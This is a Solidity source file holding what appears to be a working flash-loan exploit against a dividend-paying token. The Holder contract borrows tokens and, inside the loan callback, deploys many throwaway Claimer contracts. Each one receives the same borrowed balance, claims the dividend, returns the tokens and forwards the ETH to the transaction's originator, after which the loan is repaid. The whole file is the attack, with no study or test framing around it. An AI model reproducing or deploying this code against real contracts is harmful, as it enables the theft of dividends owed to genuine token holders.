// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IDividend {
    function approve(address spender, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

interface IPayer {
    function claimDividend() external;
}

contract Claimer {
    receive() external payable {}

    function claim(IPayer payer, IDividend token, address payable to) external {
        payer.claimDividend();
        token.transfer(msg.sender, token.balanceOf(address(this)));
        to.transfer(address(this).balance);
    }
}

/// One loan, many holders, each of whom claims.
contract Holder {
    IPayer private immutable payer;
    IDividend private immutable token;
    uint256 private rounds;

    constructor(IPayer payer_, IDividend token_) {
        (payer, token) = (payer_, token_);
    }

    receive() external payable {}

    function go(ILender lender, uint256 amount, uint256 rounds_) external {
        rounds = rounds_;
        lender.flashLoan(address(this), address(token), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        for (uint256 i = 0; i < rounds; i++) {
            Claimer c = new Claimer();
            token.transfer(address(c), amount);
            c.claim(payer, token, payable(tx.origin));
        }
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
